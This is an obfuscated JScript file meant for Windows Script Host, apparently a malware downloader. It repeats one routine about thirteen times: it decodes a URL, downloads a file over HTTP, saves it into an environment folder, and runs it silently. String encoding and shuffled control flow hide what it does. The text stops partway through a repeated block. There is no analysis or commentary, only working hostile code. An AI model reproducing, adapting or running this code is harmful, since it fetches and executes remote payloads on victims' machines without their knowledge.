var a0_0x206b7f = a0_0xb56d;
(function (_0x284108, _0x3881dc) {
    var _0x15579f = a0_0xb56d, _0x2bbecd = _0x284108();
    while (!![]) {
        try {
            var _0x473183 = parseInt(_0x15579f(0x11c)) / 0x1 * (-parseInt(_0x15579f(0x147)) / 0x2) + -parseInt(_0x15579f(0x126)) / 0x3 * (parseInt(_0x15579f(0x1ac)) / 0x4) + -parseInt(_0x15579f(0x13a)) / 0x5 + -parseInt(_0x15579f(0x13f)) / 0x6 * (-parseInt(_0x15579f(0x125)) / 0x7) + -parseInt(_0x15579f(0x19d)) / 0x8 + parseInt(_0x15579f(0x184)) / 0x9 + parseInt(_0x15579f(0x176)) / 0xa;
            if (_0x473183 === _0x3881dc)
                break;
            else
                _0x2bbecd['push'](_0x2bbecd['shift']());
        } catch (_0x59ca97) {
            _0x2bbecd['push'](_0x2bbecd['shift']());
        }
    }
}(a0_0x397e, 0x5b76f));
var parts0 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p0(_0x4c385e) {
    return parts0[_0x4c385e];
}
var host0 = eval('var _0x6bd98c = a0_0x206b7f, _0x4fd846 = {\n        \'vfdES\': function (_0x523704, _0x588ed9) {\n            return _0x523704(_0x588ed9);\n        },\n        \'bTWor\': function (_0xf1b793, _0x7015f0) {\n            return _0xf1b793(_0x7015f0);\n        }\n    };_0x4fd846[_0x6bd98c(427)](p0, 1) + _0x4fd846[_0x6bd98c(325)](p0, 6);'), url0 = eval('\x27' + p0(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x1ad)), shell0 = new ActiveXObject(p0(0x5)), target0 = shell0[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p0(0x2), xhr0 = new ActiveXObject(p0(0x3));
xhr0[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url0, ![]), xhr0[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr0[a0_0x206b7f(0x181)]();
if (xhr0[a0_0x206b7f(0x180)] == 0xc8) {
    var GgADNq = a0_0x206b7f(0x155)[a0_0x206b7f(0x17a)]('|'), UyQYGB = 0x0;
    while (!![]) {
        switch (GgADNq[UyQYGB++]) {
        case '0':
            stream0[a0_0x206b7f(0x194)] = 0x1;
            continue;
        case '1':
            stream0[a0_0x206b7f(0x197)]();
            continue;
        case '2':
            stream0[a0_0x206b7f(0x167)](target0, 0x2);
            continue;
        case '3':
            var stream0 = new ActiveXObject(p0(0x4));
            continue;
        case '4':
            shell0[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target0 + '\x22', 0x0, ![]);
            continue;
        case '5':
            stream0[a0_0x206b7f(0x178)]();
            continue;
        case '6':
            stream0[a0_0x206b7f(0x17d)](xhr0[a0_0x206b7f(0x1a8)]);
            continue;
        case '7':
            stream0[a0_0x206b7f(0x131)] = 0x0;
            continue;
        }
        break;
    }
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts1 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p1(_0xb410cc) {
    return parts1[_0xb410cc];
}
var host1 = eval('var _0x4b66fe = a0_0x206b7f, _0x51176f = {\n        \'bvGUo\': function (_0x4a3cc, _0x2fc41e) {\n            return _0x4a3cc + _0x2fc41e;\n        },\n        \'IXenx\': function (_0x3836bf, _0x2d25c4) {\n            return _0x3836bf(_0x2d25c4);\n        }\n    };_0x51176f[_0x4b66fe(299)](p1(1), _0x51176f[_0x4b66fe(390)](p1, 6));'), url1 = eval('\x27' + p1(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x18d)), shell1 = new ActiveXObject(p1(0x5)), target1 = shell1[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p1(0x2), xhr1 = new ActiveXObject(p1(0x3));
xhr1[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url1, ![]), xhr1[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr1[a0_0x206b7f(0x181)]();
if (xhr1[a0_0x206b7f(0x180)] == 0xc8) {
    var LQNjiD = a0_0x206b7f(0x135)[a0_0x206b7f(0x17a)]('|'), VlPAFe = 0x0;
    while (!![]) {
        switch (LQNjiD[VlPAFe++]) {
        case '0':
            stream1[a0_0x206b7f(0x194)] = 0x1;
            continue;
        case '1':
            stream1[a0_0x206b7f(0x167)](target1, 0x2);
            continue;
        case '2':
            stream1[a0_0x206b7f(0x197)]();
            continue;
        case '3':
            stream1[a0_0x206b7f(0x17d)](xhr1[a0_0x206b7f(0x1a8)]);
            continue;
        case '4':
            var stream1 = new ActiveXObject(p1(0x4));
            continue;
        case '5':
            shell1[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target1 + '\x22', 0x0, ![]);
            continue;
        case '6':
            stream1[a0_0x206b7f(0x178)]();
            continue;
        case '7':
            stream1[a0_0x206b7f(0x131)] = 0x0;
            continue;
        }
        break;
    }
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts2 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p2(_0x18b489) {
    return parts2[_0x18b489];
}
var host2 = eval('var _0x4f8628 = a0_0x206b7f, _0x35614d = {\n        \'WKVMy\': function (_0x4fe453, _0x40c1ff) {\n            return _0x4fe453 + _0x40c1ff;\n        },\n        \'qFbRE\': function (_0x8b09dc, _0x2b8368) {\n            return _0x8b09dc(_0x2b8368);\n        }\n    };_0x35614d[_0x4f8628(415)](p2(1), _0x35614d[_0x4f8628(386)](p2, 6));'), url2 = eval('\x27' + p2(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x191)), shell2 = new ActiveXObject(p2(0x5)), target2 = shell2[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p2(0x2), xhr2 = new ActiveXObject(p2(0x3));
xhr2[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url2, ![]), xhr2[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr2[a0_0x206b7f(0x181)]();
if (xhr2[a0_0x206b7f(0x180)] == 0xc8) {
    var WnCDry = a0_0x206b7f(0x130)[a0_0x206b7f(0x17a)]('|'), nWPxOw = 0x0;
    while (!![]) {
        switch (WnCDry[nWPxOw++]) {
        case '0':
            stream2[a0_0x206b7f(0x167)](target2, 0x2);
            continue;
        case '1':
            stream2[a0_0x206b7f(0x178)]();
            continue;
        case '2':
            stream2[a0_0x206b7f(0x194)] = 0x1;
            continue;
        case '3':
            stream2[a0_0x206b7f(0x197)]();
            continue;
        case '4':
            shell2[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target2 + '\x22', 0x0, ![]);
            continue;
        case '5':
            var stream2 = new ActiveXObject(p2(0x4));
            continue;
        case '6':
            stream2[a0_0x206b7f(0x17d)](xhr2[a0_0x206b7f(0x1a8)]);
            continue;
        case '7':
            stream2[a0_0x206b7f(0x131)] = 0x0;
            continue;
        }
        break;
    }
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts3 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p3(_0x309ed2) {
    return parts3[_0x309ed2];
}
var host3 = eval('var _0x29b38a = a0_0x206b7f, _0x48c2db = {\n        \'aSUra\': function (_0x2af9b4, _0x14d0a4) {\n            return _0x2af9b4(_0x14d0a4);\n        }\n    };_0x48c2db[_0x29b38a(358)](p3, 1) + p3(6);'), url3 = eval('\x27' + p3(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x152)), shell3 = new ActiveXObject(p3(0x5)), target3 = shell3[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p3(0x2), xhr3 = new ActiveXObject(p3(0x3));
xhr3[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url3, ![]), xhr3[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr3[a0_0x206b7f(0x181)]();
if (xhr3[a0_0x206b7f(0x180)] == 0xc8) {
    var MaerwK = a0_0x206b7f(0x19b)[a0_0x206b7f(0x17a)]('|'), lHDrUJ = 0x0;
    while (!![]) {
        switch (MaerwK[lHDrUJ++]) {
        case '0':
            shell3[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target3 + '\x22', 0x0, ![]);
            continue;
        case '1':
            stream3[a0_0x206b7f(0x197)]();
            continue;
        case '2':
            var stream3 = new ActiveXObject(p3(0x4));
            continue;
        case '3':
            stream3[a0_0x206b7f(0x167)](target3, 0x2);
            continue;
        case '4':
            stream3[a0_0x206b7f(0x17d)](xhr3[a0_0x206b7f(0x1a8)]);
            continue;
        case '5':
            stream3[a0_0x206b7f(0x194)] = 0x1;
            continue;
        case '6':
            stream3[a0_0x206b7f(0x178)]();
            continue;
        case '7':
            stream3[a0_0x206b7f(0x131)] = 0x0;
            continue;
        }
        break;
    }
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts4 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p4(_0x30f7a0) {
    return parts4[_0x30f7a0];
}
var host4 = eval('var _0x365ce2 = a0_0x206b7f, _0xaabda3 = {\n        \'yTCFB\': function (_0x58fa38, _0x5a1af6) {\n            return _0x58fa38(_0x5a1af6);\n        },\n        \'gAuoV\': function (_0x4e4686, _0x4b399f) {\n            return _0x4e4686(_0x4b399f);\n        }\n    };_0xaabda3[_0x365ce2(318)](p4, 1) + _0xaabda3[_0x365ce2(292)](p4, 6);'), url4 = eval('\x27' + p4(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x1b1)), shell4 = new ActiveXObject(p4(0x5)), target4 = shell4[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p4(0x2), xhr4 = new ActiveXObject(p4(0x3));
xhr4[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url4, ![]), xhr4[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr4[a0_0x206b7f(0x181)]();
if (xhr4[a0_0x206b7f(0x180)] == 0xc8) {
    var stream4 = new ActiveXObject(p4(0x4));
    stream4[a0_0x206b7f(0x178)](), stream4[a0_0x206b7f(0x194)] = 0x1, stream4[a0_0x206b7f(0x17d)](xhr4[a0_0x206b7f(0x1a8)]), stream4[a0_0x206b7f(0x131)] = 0x0, stream4[a0_0x206b7f(0x167)](target4, 0x2), stream4[a0_0x206b7f(0x197)](), shell4[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target4 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts5 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p5(_0x45351e) {
    return parts5[_0x45351e];
}
var host5 = eval('var _0x576d27 = a0_0x206b7f, _0x1c813b = {\n        \'zljoN\': function (_0x51173d, _0x519760) {\n            return _0x51173d + _0x519760;\n        },\n        \'VgmmB\': function (_0x487cec, _0x2b1fb2) {\n            return _0x487cec(_0x2b1fb2);\n        }\n    };_0x1c813b[_0x576d27(382)](_0x1c813b[_0x576d27(400)](p5, 1), _0x1c813b[_0x576d27(400)](p5, 6));'), url5 = eval('\x27' + p5(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x12d)), shell5 = new ActiveXObject(p5(0x5)), target5 = shell5[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p5(0x2), xhr5 = new ActiveXObject(p5(0x3));
xhr5[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url5, ![]), xhr5[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr5[a0_0x206b7f(0x181)]();
if (xhr5[a0_0x206b7f(0x180)] == 0xc8) {
    var stream5 = new ActiveXObject(p5(0x4));
    stream5[a0_0x206b7f(0x178)](), stream5[a0_0x206b7f(0x194)] = 0x1, stream5[a0_0x206b7f(0x17d)](xhr5[a0_0x206b7f(0x1a8)]), stream5[a0_0x206b7f(0x131)] = 0x0, stream5[a0_0x206b7f(0x167)](target5, 0x2), stream5[a0_0x206b7f(0x197)](), shell5[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target5 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts6 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p6(_0x464e87) {
    return parts6[_0x464e87];
}
var host6 = eval('var _0x229d0d = a0_0x206b7f, _0x1bdae7 = {\n        \'CaHCv\': function (_0x43bcae, _0xfe3608) {\n            return _0x43bcae + _0xfe3608;\n        }\n    };_0x1bdae7[_0x229d0d(371)](p6(1), p6(6));'), url6 = eval('\x27' + p6(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x1a3)), shell6 = new ActiveXObject(p6(0x5)), target6 = shell6[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p6(0x2), xhr6 = new ActiveXObject(p6(0x3));
xhr6[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url6, ![]), xhr6[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr6[a0_0x206b7f(0x181)]();
if (xhr6[a0_0x206b7f(0x180)] == 0xc8) {
    var stream6 = new ActiveXObject(p6(0x4));
    stream6[a0_0x206b7f(0x178)](), stream6[a0_0x206b7f(0x194)] = 0x1, stream6[a0_0x206b7f(0x17d)](xhr6[a0_0x206b7f(0x1a8)]), stream6[a0_0x206b7f(0x131)] = 0x0, stream6[a0_0x206b7f(0x167)](target6, 0x2), stream6[a0_0x206b7f(0x197)](), shell6[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target6 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts7 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p7(_0x4d945b) {
    return parts7[_0x4d945b];
}
var host7 = eval('p7(1) + p7(6);'), url7 = eval('\x27' + p7(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x137)), shell7 = new ActiveXObject(p7(0x5)), target7 = shell7[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p7(0x2), xhr7 = new ActiveXObject(p7(0x3));
xhr7[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url7, ![]), xhr7[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr7[a0_0x206b7f(0x181)]();
if (xhr7[a0_0x206b7f(0x180)] == 0xc8) {
    var stream7 = new ActiveXObject(p7(0x4));
    stream7[a0_0x206b7f(0x178)](), stream7[a0_0x206b7f(0x194)] = 0x1, stream7[a0_0x206b7f(0x17d)](xhr7[a0_0x206b7f(0x1a8)]), stream7[a0_0x206b7f(0x131)] = 0x0, stream7[a0_0x206b7f(0x167)](target7, 0x2), stream7[a0_0x206b7f(0x197)](), shell7[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target7 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts8 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p8(_0x2366bd) {
    return parts8[_0x2366bd];
}
var host8 = eval('var _0x3689ec = a0_0x206b7f, _0x314c42 = {\n        \'YcGAS\': function (_0x127cdc, _0x24c046) {\n            return _0x127cdc(_0x24c046);\n        }\n    };p8(1) + _0x314c42[_0x3689ec(421)](p8, 6);'), url8 = eval('\x27' + p8(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x142)), shell8 = new ActiveXObject(p8(0x5)), target8 = shell8[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p8(0x2), xhr8 = new ActiveXObject(p8(0x3));
xhr8[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url8, ![]), xhr8[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr8[a0_0x206b7f(0x181)]();
if (xhr8[a0_0x206b7f(0x180)] == 0xc8) {
    var RTJNMZ = a0_0x206b7f(0x11d)[a0_0x206b7f(0x17a)]('|'), qJLSBG = 0x0;
    while (!![]) {
        switch (RTJNMZ[qJLSBG++]) {
        case '0':
            stream8[a0_0x206b7f(0x131)] = 0x0;
            continue;
        case '1':
            shell8[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target8 + '\x22', 0x0, ![]);
            continue;
        case '2':
            stream8[a0_0x206b7f(0x178)]();
            continue;
        case '3':
            stream8[a0_0x206b7f(0x197)]();
            continue;
        case '4':
            stream8[a0_0x206b7f(0x167)](target8, 0x2);
            continue;
        case '5':
            var stream8 = new ActiveXObject(p8(0x4));
            continue;
        case '6':
            stream8[a0_0x206b7f(0x17d)](xhr8[a0_0x206b7f(0x1a8)]);
            continue;
        case '7':
            stream8[a0_0x206b7f(0x194)] = 0x1;
            continue;
        }
        break;
    }
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts9 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p9(_0x178638) {
    return parts9[_0x178638];
}
var host9 = eval('var _0xe69b95 = a0_0x206b7f, _0x3567a8 = {\n        \'lUqpc\': function (_0x3845d3, _0x38e0f8) {\n            return _0x3845d3(_0x38e0f8);\n        }\n    };_0x3567a8[_0xe69b95(350)](p9, 1) + _0x3567a8[_0xe69b95(350)](p9, 6);'), url9 = eval('\x27' + p9(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x12a)), shell9 = new ActiveXObject(p9(0x5)), target9 = shell9[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p9(0x2), xhr9 = new ActiveXObject(p9(0x3));
function a0_0xb56d(_0xd661ac, _0x4c767d) {
    _0xd661ac = _0xd661ac - 0x119;
    var _0x397eb4 = a0_0x397e();
    var _0xb56dc = _0x397eb4[_0xd661ac];
    if (a0_0xb56d['pzwNth'] === undefined) {
        var _0x27525c = function (_0x383f18) {
            var _0x2ebca3 = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';
            var _0xef3794 = '', _0x2ce2ca = '';
            for (var _0x2868a0 = 0x0, _0x16a994, _0x54272c, _0x3c48c6 = 0x0; _0x54272c = _0x383f18['charAt'](_0x3c48c6++); ~_0x54272c && (_0x16a994 = _0x2868a0 % 0x4 ? _0x16a994 * 0x40 + _0x54272c : _0x54272c, _0x2868a0++ % 0x4) ? _0xef3794 += String['fromCharCode'](0xff & _0x16a994 >> (-0x2 * _0x2868a0 & 0x6)) : 0x0) {
                _0x54272c = _0x2ebca3['indexOf'](_0x54272c);
            }
            for (var _0x5daad8 = 0x0, _0x5c7c86 = _0xef3794['length']; _0x5daad8 < _0x5c7c86; _0x5daad8++) {
                _0x2ce2ca += '%' + ('00' + _0xef3794['charCodeAt'](_0x5daad8)['toString'](0x10))['slice'](-0x2);
            }
            return decodeURIComponent(_0x2ce2ca);
        };
        a0_0xb56d['uEKNWZ'] = _0x27525c, a0_0xb56d['OyItSW'] = {}, a0_0xb56d['pzwNth'] = !![];
    }
    var _0x114bab = _0x397eb4[0x0];
    a0_0xb56d['FYyTxP'] !== _0x114bab && (a0_0xb56d['OyItSW'] = {}, a0_0xb56d['FYyTxP'] = _0x114bab);
    var _0x3fb9d3 = a0_0xb56d['OyItSW'][_0xd661ac];
    return _0x3fb9d3 === undefined ? (_0xb56dc = a0_0xb56d['uEKNWZ'](_0xb56dc), a0_0xb56d['OyItSW'][_0xd661ac] = _0xb56dc) : _0xb56dc = _0x3fb9d3, _0xb56dc;
}
xhr9[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url9, ![]), xhr9[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr9[a0_0x206b7f(0x181)]();
if (xhr9[a0_0x206b7f(0x180)] == 0xc8) {
    var stream9 = new ActiveXObject(p9(0x4));
    stream9[a0_0x206b7f(0x178)](), stream9[a0_0x206b7f(0x194)] = 0x1, stream9[a0_0x206b7f(0x17d)](xhr9[a0_0x206b7f(0x1a8)]), stream9[a0_0x206b7f(0x131)] = 0x0, stream9[a0_0x206b7f(0x167)](target9, 0x2), stream9[a0_0x206b7f(0x197)](), shell9[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target9 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts10 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p10(_0x3300b4) {
    return parts10[_0x3300b4];
}
var host10 = eval('var _0x1764f1 = a0_0x206b7f, _0x45faaf = {\n        \'PWHOs\': function (_0x5cc41d, _0x5db81b) {\n            return _0x5cc41d(_0x5db81b);\n        }\n    };_0x45faaf[_0x1764f1(364)](p10, 1) + p10(6);'), url10 = eval('\x27' + p10(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x18f)), shell10 = new ActiveXObject(p10(0x5)), target10 = shell10[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p10(0x2), xhr10 = new ActiveXObject(p10(0x3));
xhr10[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url10, ![]), xhr10[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr10[a0_0x206b7f(0x181)]();
if (xhr10[a0_0x206b7f(0x180)] == 0xc8) {
    var stream10 = new ActiveXObject(p10(0x4));
    stream10[a0_0x206b7f(0x178)](), stream10[a0_0x206b7f(0x194)] = 0x1, stream10[a0_0x206b7f(0x17d)](xhr10[a0_0x206b7f(0x1a8)]), stream10[a0_0x206b7f(0x131)] = 0x0, stream10[a0_0x206b7f(0x167)](target10, 0x2), stream10[a0_0x206b7f(0x197)](), shell10[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target10 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts11 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p11(_0x51695c) {
    return parts11[_0x51695c];
}
var host11 = eval('var _0x3f1faf = a0_0x206b7f, _0x40fc88 = {\n        \'ViyGk\': function (_0x52ae74, _0x5e7140) {\n            return _0x52ae74(_0x5e7140);\n        }\n    };_0x40fc88[_0x3f1faf(426)](p11, 1) + p11(6);'), url11 = eval('\x27' + p11(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x14b)), shell11 = new ActiveXObject(p11(0x5)), target11 = shell11[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p11(0x2), xhr11 = new ActiveXObject(p11(0x3));
xhr11[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url11, ![]), xhr11[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr11[a0_0x206b7f(0x181)]();
if (xhr11[a0_0x206b7f(0x180)] == 0xc8) {
    var zbACho = a0_0x206b7f(0x177)[a0_0x206b7f(0x17a)]('|'), NexvSw = 0x0;
    while (!![]) {
        switch (zbACho[NexvSw++]) {
        case '0':
            stream11[a0_0x206b7f(0x197)]();
            continue;
        case '1':
            shell11[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target11 + '\x22', 0x0, ![]);
            continue;
        case '2':
            var stream11 = new ActiveXObject(p11(0x4));
            continue;
        case '3':
            stream11[a0_0x206b7f(0x194)] = 0x1;
            continue;
        case '4':
            stream11[a0_0x206b7f(0x17d)](xhr11[a0_0x206b7f(0x1a8)]);
            continue;
        case '5':
            stream11[a0_0x206b7f(0x178)]();
            continue;
        case '6':
            stream11[a0_0x206b7f(0x167)](target11, 0x2);
            continue;
        case '7':
            stream11[a0_0x206b7f(0x131)] = 0x0;
            continue;
        }
        break;
    }
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts12 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p12(_0x2f900d) {
    return parts12[_0x2f900d];
}
var host12 = eval('var _0x201655 = a0_0x206b7f, _0x55b143 = {\n        \'zjAHP\': function (_0x2ea029, _0x1b25e6) {\n            return _0x2ea029 + _0x1b25e6;\n        },\n        \'gJJOf\': function (_0x2646f2, _0x15be46) {\n            return _0x2646f2(_0x15be46);\n        }\n    };_0x55b143[_0x201655(431)](p12(1), _0x55b143[_0x201655(418)](p12, 6));'), url12 = eval('\x27' + p12(0x0)[a0_0x206b7f(0x149)]('xx', 'tt') + a0_0x206b7f(0x141)), shell12 = new ActiveXObject(p12(0x5)), target12 = shell12[a0_0x206b7f(0x13c)](a0_0x206b7f(0x14d)) + '\x5c' + p12(0x2), xhr12 = new ActiveXObject(p12(0x3));
xhr12[a0_0x206b7f(0x144)](a0_0x206b7f(0x199), url12, ![]), xhr12[a0_0x206b7f(0x140)](a0_0x206b7f(0x122), a0_0x206b7f(0x195)), xhr12[a0_0x206b7f(0x181)]();
if (xhr12[a0_0x206b7f(0x180)] == 0xc8) {
    var stream12 = new ActiveXObject(p12(0x4));
    stream12[a0_0x206b7f(0x178)](), stream12[a0_0x206b7f(0x194)] = 0x1, stream12[a0_0x206b7f(0x17d)](xhr12[a0_0x206b7f(0x1a8)]), stream12[a0_0x206b7f(0x131)] = 0x0, stream12[a0_0x206b7f(0x167)](target12, 0x2), stream12[a0_0x206b7f(0x197)](), shell12[a0_0x206b7f(0x11f)](a0_0x206b7f(0x15b) + target12 + '\x22', 0x0, ![]);
} else
    WScript[a0_0x206b7f(0x150)](a0_0x206b7f(0x18a));
var parts13 = [
    a0_0x206b7f(0x15d),
    a0_0x206b7f(0x187),
    a0_0x206b7f(0x134),
    a0_0x206b7f(0x159),
    a0_0x206b7f(0x1a9),
    a0_0x206b7f(0x18e),
    a0_0x206b7f(0x1a4),
    a0_0x206b7f(0x138)
];
function p13(_0x29c751) {
    return parts13[_0x29c751];
}
